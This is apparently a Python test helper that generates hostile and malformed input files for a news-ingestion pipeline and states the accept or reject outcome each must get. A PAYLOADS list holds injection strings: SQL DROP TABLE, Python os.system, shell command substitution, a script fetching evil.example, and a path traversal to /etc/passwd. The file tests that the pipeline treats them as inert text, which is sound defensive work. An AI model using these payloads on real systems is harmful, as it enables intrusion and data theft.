"""A generator of hostile and odd inputs, each with the outcome a run must give it.

Every kind is written by the tests themselves (no third-party text). An outcome is either
`article` (with a check of what was repaired or kept) or the (stage, reason) of its reject.
"""

from __future__ import annotations

import io
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import ftfy.bad_codecs  # noqa: F401 - registers sloppy-windows-1252, how mojibake is made

from tests.documents import seed_document

ARTICLE = "article"
# Bigger than the default max_document_bytes (20,000,000): rejected before it is read.
HUGE_BYTES = 30 * 1024 * 1024
# Longer than spaCy's max_length (1,000,000 characters) and under the byte limit.
TOO_LONG_CHARS = 1_200_000
LONG_PARAGRAPHS = 10_000
# Text that would do harm if anything evaluated, executed or followed it.
PAYLOADS = (
    "'; DROP TABLE articles; --",
    "{__import__('os').system('touch PWNED')}",
    "$(touch PWNED) `touch PWNED`",
    "<script>fetch('https://evil.example/steal')</script>",
    "../../../../etc/passwd",
)

Check = Callable[[dict], None]


@dataclass(frozen=True, slots=True)
class Hostile:
    """One kind of input: its file name, how to make it, and what a run must make of it."""

    kind: str
    name: str
    make: Callable[[Path], None]
    outcome: str = ARTICLE  # ARTICLE or a reject reason
    stage: str | None = None  # the reject's stage
    check: Check | None = None  # for an article: what must hold of its row


def _bytes(data: bytes) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(data)


def _text(text: str, encoding: str = "utf-8") -> Callable[[Path], None]:
    return lambda path: path.write_bytes(text.encode(encoding))


def _story(paragraph: str, slug: str, **kwargs) -> str:
    """A seed document with one unique body paragraph (so that no two kinds are copies)."""
    kwargs.setdefault("url", f"https://www.example-news.com/2025/03/18/{slug}")
    return seed_document(
        title=kwargs.pop("title", f"Council Story About {slug.title()} Published"),
        paragraphs=[paragraph, "The council will meet again in April to review the plan."],
        **kwargs,
    )


def _zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("story.txt", "A story inside an archive.")
    return buffer.getvalue()


def _huge(path: Path) -> None:
    with path.open("wb") as out:
        line = b"All work and no play makes a very large file.\n"
        out.write(line * (HUGE_BYTES // len(line) + 1))


def _symlink_loop(path: Path) -> None:
    os.symlink(path.name, path)


def _fifo(path: Path) -> None:
    os.mkfifo(path)


def _locked(path: Path) -> None:
    path.write_text(_story("The locked report was never published.", "locked"))
    path.chmod(0)


def _body_has(*fragments: str, absent: tuple[str, ...] = ()) -> Check:
    def check(row: dict) -> None:
        for fragment in fragments:
            assert fragment in row["body"], (fragment, row["body"][:300])
        for fragment in absent:
            assert fragment not in row["body"] and fragment not in row["title"], fragment

    return check


def _field(name: str, value: object) -> Check:
    def check(row: dict) -> None:
        assert row[name] == value, (name, row[name])

    return check


def _long_article(row: dict) -> None:
    paragraphs = row["body"].split("\n\n")
    assert len(paragraphs) == LONG_PARAGRAPHS + 1, len(paragraphs)  # and the closing one
    assert (
        paragraphs[LONG_PARAGRAPHS - 1] == f"Item {LONG_PARAGRAPHS - 1} on the list was approved."
    )


def _verbatim(row: dict) -> None:
    for payload in PAYLOADS:
        assert payload in row["body"], payload


_SENTENCE = "The council met again today to discuss the old bridge. "
LATIN = "The café in Zürich reopened on Tuesday, the owner said."
CURLY = "“We are open,” the café owner said on Tuesday – and €5 buys lunch."
MOJIBAKE = "The bakery in Málaga said “hello” to its customers — and £5 bought bread."


def hostile_kinds() -> list[Hostile]:
    """Every kind, in a stable order; removed.txt is deleted by the test during the run."""
    return [
        Hostile("empty file", "empty.txt", _bytes(b""), "empty", "parse"),
        Hostile("whitespace only", "blank.txt", _bytes(b" \n\t\r\n  \n"), "empty", "parse"),
        Hostile(
            "image bytes", "photo.png", _bytes(b"\x89PNG\r\n\x1a\n" + bytes(300)), "binary", "parse"
        ),
        Hostile("zip archive", "bundle.zip", _bytes(_zip_bytes()), "binary", "parse"),
        Hostile("30 MB text file", "huge.txt", _huge, "too_large", "ingest"),
        Hostile(
            "Latin-1 bytes",
            "latin1.txt",
            _text(_story(LATIN, "latin"), "latin-1"),
            check=_body_has("café in Zürich"),
        ),
        Hostile(
            "cp1252 bytes",
            "cp1252.txt",
            _text(_story(CURLY, "windows"), "cp1252"),
            check=_body_has("“We are open,” the café", "€5"),
        ),
        Hostile(
            "UTF-16 with BOM",
            "utf16.txt",
            _text(_story("The ferry timetable changed on Monday.", "ferry"), "utf-16"),
            check=_body_has("ferry timetable", absent=("\ufeff", "\x00")),
        ),
        Hostile(
            "mojibake",
            "mojibake.txt",
            _text(_story(MOJIBAKE, "bakery").encode("utf-8").decode("sloppy-windows-1252")),
            check=_body_has(MOJIBAKE, absent=("Ã", "â€")),
        ),
        Hostile(
            "NUL bytes",
            "nul.txt",
            _bytes(
                _story("The harbour master in Hull spoke on Friday.", "harbour")
                .replace("Hull", "H\x00ull")
                .encode()
            ),
            check=_body_has("harbour master in Hull", absent=("\x00",)),
        ),
        Hostile(
            "zero-width and bidi controls",
            "invisible.txt",
            _text(_story("The mayor of Bristol\u200b spoke\u202e on\u2066 Sunday.", "mayor")),
            check=_body_has("The mayor of Bristol spoke on Sunday.", absent=("\u200b", "\u202e")),
        ),
        Hostile(
            "Windows line endings",
            "crlf.txt",
            _text(_story("The bridge in Leeds closed on Sunday.", "bridge").replace("\n", "\r\n")),
            check=_body_has("bridge in Leeds", absent=("\r",)),
        ),
        Hostile(
            "HTML error page",
            "error.html",
            _text("<!DOCTYPE html>\n<html><head><title>502 Bad Gateway</title></head></html>"),
            "html_page",
            "parse",
        ),
        Hostile(
            "missing title",
            "no-title.txt",
            _text(
                _story("The library opened late on Monday.", "library", title="").replace(
                    "\n\n\n\n", "\n"
                )
            ),
            "no_headline",
            "parse",
        ),
        Hostile(
            "missing body",
            "no-body.txt",
            _text(seed_document(paragraphs=[], url="https://www.example-news.com/no-body")),
            "no_body",
            "parse",
        ),
        Hostile(
            "date in the future",
            "future.txt",
            _text(
                _story(
                    "The stadium will open soon.",
                    "stadium",
                    date_line="March 18, 2099",
                    url="https://www.example-news.com/stadium",
                )
            ),
            "future_date",
            "parse",
        ),
        Hostile(
            "date before 1900",
            "old.txt",
            _text(
                _story(
                    "The canal was dug by hand.",
                    "canal",
                    date_line="March 18, 1850",
                    url="https://www.example-news.com/canal",
                )
            ),
            "schema_article",
            "validate",
        ),
        Hostile(
            "unparseable date",
            "bad-date.txt",
            _text(
                _story(
                    "The market reopened after the flood.",
                    "market",
                    date_line="Marchtember 45, 20x5",
                    url="https://www.example-news.com/market",
                )
            ),
            check=_field("published_date", None),
        ),
        Hostile(
            "javascript: URL",
            "js-url.txt",
            _text(
                _story(
                    "The museum added a new wing.",
                    "museum",
                    url="javascript:alert(document.cookie)",
                )
            ),
            "bad_url",
            "parse",
        ),
        Hostile(
            "data: URL",
            "data-url.txt",
            _text(
                _story(
                    "The zoo welcomed a new tiger.", "zoo", url="data:text/html;base64,PHNjcmlwdD4="
                )
            ),
            "bad_url",
            "parse",
        ),
        Hostile(
            "file name with spaces and non-ASCII",
            "näme with spaces ñ 新闻.txt",
            _text(_story("The theatre in Cork sold out on Saturday.", "theatre")),
            check=lambda row: row["source_path"].endswith("näme with spaces ñ 新闻.txt"),
        ),
        Hostile(
            "file name not valid UTF-8",
            os.fsdecode(b"bad-\xff-name.txt"),
            _text(_story("The orchard harvest was early.", "orchard")),
            "bad_file_name",
            "ingest",
        ),
        Hostile("symlink loop", "loop.txt", _symlink_loop, "unreadable", "ingest"),
        Hostile("named pipe", "pipe.txt", _fifo, "not_a_file", "ingest"),
        Hostile("unreadable (permissions)", "locked.txt", _locked, "unreadable", "ingest"),
        Hostile(
            "file removed during the run",
            "zz-removed.txt",
            _text(_story("The pier was repainted in May.", "pier")),
            "unreadable",
            "ingest",
        ),
        Hostile(
            "10,000 paragraphs",
            "long.txt",
            _text(
                _story(
                    "\n\n".join(
                        f"Item {n} on the list was approved." for n in range(LONG_PARAGRAPHS)
                    ),
                    "long",
                )
            ),
            check=_long_article,
        ),
        Hostile(
            "longer than the NLP model takes",
            "too-long.txt",
            _text(_story(_SENTENCE * (TOO_LONG_CHARS // len(_SENTENCE)), "toolong")),
            "too_long",
            "enrich",
        ),
        Hostile(
            "non-English article",
            "german.txt",
            _text(
                seed_document(
                    title="Die Bahn Fährt Wieder Nach Dem Sturm",
                    paragraphs=[
                        "Die Bahn hat am Dienstag angekündigt, dass die Züge im nächsten Monat "
                        "wieder fahren werden, nachdem die Reparaturen zwei Wochen gedauert haben.",
                        "„Wir erwarten, dass die Züge bis zum Wochenende normal fahren“, sagte "
                        "eine Sprecherin auf einer Pressekonferenz.",
                    ],
                    url="https://www.example-news.de/2025/03/18/bahn",
                )
            ),
            check=_field("language", "de"),
        ),
        Hostile(
            "same article under two names (first)",
            "twice-a.txt",
            _text(_story("The lighthouse keeper retired after forty years.", "lighthouse")),
        ),
        Hostile(
            "same article under two names (second)",
            "twice-b.txt",
            _text(_story("The lighthouse keeper retired after forty years.", "lighthouse")),
            "duplicate_article",
            "validate",
        ),
        Hostile(
            "text that must never be executed, evaluated, queried or followed",
            "payloads.txt",
            _text(
                _story(
                    "The letter the council received on Monday read, word for word: "
                    + " ".join(PAYLOADS)
                    + " and the council said it would reply.",
                    "payloads",
                    title="Payload Story '; DROP TABLE articles; -- About The Council",
                )
            ),
            check=_verbatim,
        ),
    ]


def write_hostile(folder: Path) -> dict[str, Hostile]:
    """Write every kind into `folder`; returns each kind by the source path a run stores."""
    folder.mkdir(parents=True, exist_ok=True)
    written = {}
    for hostile in hostile_kinds():
        path = folder / hostile.name
        hostile.make(path)
        stored = os.fsencode(str(path)).decode("utf-8", errors="backslashreplace")
        written[stored] = hostile
    return written
